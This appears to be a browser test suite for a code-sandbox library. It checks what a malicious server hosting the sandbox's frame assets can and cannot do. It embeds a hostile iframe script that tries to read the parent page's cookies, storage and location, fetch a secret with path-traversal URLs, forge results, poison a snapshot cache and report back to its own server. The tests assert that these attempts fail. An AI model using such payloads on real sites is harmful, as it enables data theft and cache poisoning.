// `assets` on a foreign server: what the server of the sandbox's files can do, and what not.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { openChromium, openPage } from './browser.mjs';
import { SITE, serveSite } from './site.mjs';

const BLANK = { body: '<!doctype html><html lang="en"><title>A page</title>' };
const FRAME = readdirSync(join(SITE, 'assets')).find((name) => name.startsWith('frame-')) ?? '';

/** A hostile document for the frame, which reports to its own server. */
const EVIL = `<!doctype html><script>
const told = (text) => fetch('/told?' + encodeURIComponent(text), { mode: 'no-cors' });
const { port1, port2 } = new MessageChannel();
parent.postMessage({ sandbox: location.hash.slice(1) }, '*', [port2]);
const tried = {};
for (const [name, act] of Object.entries({
  document: () => parent.document.cookie, storage: () => localStorage.secret, location: () => parent.location.href,
  top: () => { top.location = '/told?navigated'; },
})) { try { tried[name] = String(act()); } catch (error) { tried[name] = error.name; } }
let id = 0;
const ask = (method, ...args) => port1.postMessage({ type: 'ask', id: ++id, method, args });
port1.onmessage = ({ data: message }) => {
  if (message.type === 'ping') return port1.postMessage({ type: 'pong' });
  if (message.type === 'answer') return told('answer ' + (message.error ? 'refused' : new TextDecoder().decode(message.value)));
  if (message.type !== 'call') return;
  if (message.method === 'boot') {
    told('tried ' + JSON.stringify(tried));
    ask('fetch', PAGE + '/secret', { maxBytes: 1000, milliseconds: 5000 });
    ask('fetch', PAGE + '/packages/../secret', { maxBytes: 1000, milliseconds: 5000 });
    ask('fetch', PAGE + '/packages/%2e%2e/secret', { maxBytes: 1000, milliseconds: 5000 });
  }
  if (message.method === 'eval') told('code ' + message.args[0]);
  const value = { status: 'success', output: [], return_value: 'forged', images: [] };
  port1.postMessage({ type: 'result', id: message.id, value });
};
</script>`;

/** @type {Awaited<ReturnType<typeof serveSite>>} */
let site;
/** @type {Awaited<ReturnType<typeof serveSite>>} */
let evil;
/** @type {import('playwright-core').Browser} */
let browser;

before(async () => {
  site = await serveSite({
    '/plain': { ...BLANK, headers: { 'set-cookie': 'secret=CANARY' } },
    '/secret': { body: 'CANARY-SECRET' },
    '/limited': { ...BLANK, headers: { 'content-security-policy': "default-src 'self'" } },
  });
  evil = await serveSite({ [`/assets/${FRAME}`]: { body: EVIL.replaceAll('PAGE', JSON.stringify(site.url)) } });
  browser = await openChromium();
});

after(async () => {
  await browser?.close();
  site?.close();
  evil?.close();
});

/** In the page: runs a program in a sandbox with these `assets`. @param {string} assets */
async function use(assets) {
  localStorage.setItem('secret', 'CANARY-STORED');
  const { codeSandbox } = await import(/** @type {any} */ ('/code-sandbox.js'));
  try {
    const sandbox = await codeSandbox({ assets });
    const { return_value } = await sandbox.eval('"of the page"');
    await new Promise((resolve) => setTimeout(resolve, 1000));
    sandbox.close();
    return return_value;
  } catch (error) {
    return /** @type {any} */ (error).message;
  }
}

test('its frame sees the code and forges results, and nothing of the page', async () => {
  const { page, close } = await openPage(browser, `${site.url}/plain`);
  /** @type {string[]} */
  const told = [];
  page.context().on('request', (request) => {
    const { pathname, search } = new URL(request.url());
    if (pathname === '/told') told.push(decodeURIComponent(search.slice(1)));
  });
  // The server can forge results: the folder must be one's own, or trusted like a script of the page.
  assert.equal(await page.evaluate(use, `${evil.url}/assets`), 'forged');
  assert.ok(told.includes('code "of the page"'), told.join('\n'));
  const tried = JSON.parse((told.find((line) => line.startsWith('tried ')) ?? 'tried {}').slice(6));
  assert.deepEqual(tried, {
    document: 'SecurityError',
    storage: 'SecurityError',
    location: 'SecurityError',
    top: 'SecurityError',
  });
  assert.ok(
    told.some((line) => line.startsWith('answer')),
    told.join('\n'),
  );
  assert.doesNotMatch(told.join('\n'), /CANARY/);
  assert.equal(page.url(), `${site.url}/plain`);
  await close();
});

test('each other file has to be the one that was built with the script', async () => {
  const name = readdirSync(join(SITE, 'assets')).find((file) => file.startsWith('isolate.js')) ?? '';
  const body = Buffer.from(readFileSync(join(SITE, 'assets', name)));
  body[body.length >> 1] ^= 1;
  const headers = { 'access-control-allow-origin': '*' };
  const changed = await serveSite({ [`/assets/${name}`]: { body, headers, type: 'application/octet-stream' } });
  const { page, close } = await openPage(browser, `${site.url}/plain`);
  const told = await page.evaluate(use, `${changed.url}/assets`);
  await close();
  changed.close();
  assert.match(told, /is not the file that was built with this script/);
});

test('a page’s own policy keeps the files of strangers out', async () => {
  const { page, close } = await openPage(browser, `${site.url}/limited`);
  const seen = await page.evaluate(use, `${evil.url}/assets`);
  assert.match(seen, /could not be loaded|did not load|does not answer/);
  await close();
});

test('a frame of a stranger leaves no snapshot for the sandboxes of the page', { timeout: 120_000 }, async () => {
  const { page, close } = await openPage(browser, `${site.url}/plain`);
  // It stores a snapshot under a key of its choice, such as the key of numpy's snapshot.
  const poison = EVIL.replace(
    "if (message.method === 'boot') {",
    "if (message.method === 'boot') { ask('keepSnapshot', '0'.repeat(64), new Blob(['poison']));",
  ).replaceAll('PAGE', JSON.stringify(site.url));
  const poisoner = await serveSite({ [`/assets/${FRAME}`]: { body: poison } });
  assert.equal(await page.evaluate(use, `${poisoner.url}/assets`), 'forged');
  poisoner.close();
  const kept = await page.evaluate(
    () =>
      new Promise((resolve) => {
        const opening = indexedDB.open('python-sandbox');
        opening.onsuccess = () => {
          const database = opening.result;
          if (!database.objectStoreNames.contains('snapshots')) return resolve([]);
          const all = database.transaction('snapshots').objectStore('snapshots').getAll();
          all.onsuccess = () => resolve(all.result.map(({ build, key }) => `${build} ${key}`));
        };
      }),
  );
  await close();
  // It may be stored, but a sandbox whose files are elsewhere must not find it.
  for (const key of kept) assert.match(key, new RegExp(poisoner.url), `${key}: of no folder`);
});

test('an import map pins every module of the library', async () => {
  const modules = ['code-sandbox.js', ...readdirSync(join(SITE, 'assets')).map((name) => `assets/${name}`)].filter(
    (name) => name.endsWith('.js'),
  );
  const integrity = Object.fromEntries(
    modules.map((name) => [
      `/${name}`,
      `sha384-${createHash('sha384')
        .update(readFileSync(join(SITE, name)))
        .digest('base64')}`,
    ]),
  );
  const map = `<script type="importmap">${JSON.stringify({ integrity })}</script>`;
  const pinned = await serveSite({ '/pinned': { body: `<!doctype html><html lang="en"><title>Pinned</title>${map}` } });
  const { page, close } = await openPage(browser, `${pinned.url}/pinned`);
  const load = () =>
    page.evaluate(async () => {
      try {
        const { codeSandbox } = await import(/** @type {any} */ ('/code-sandbox.js'));
        const sandbox = await codeSandbox();
        const { return_value } = await sandbox.eval('6 * 7');
        sandbox.close();
        return return_value;
      } catch (error) {
        return /** @type {any} */ (error).name;
      }
    });
  assert.equal(await load(), 42);
  await page.route('**/assets/chunk-*.js', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}\nglobalThis.changed = true;` });
  });
  await page.reload();
  assert.equal(await load(), 'TypeError');
  assert.equal(await page.evaluate(() => 'changed' in globalThis), false);
  await close();
  pinned.close();
});
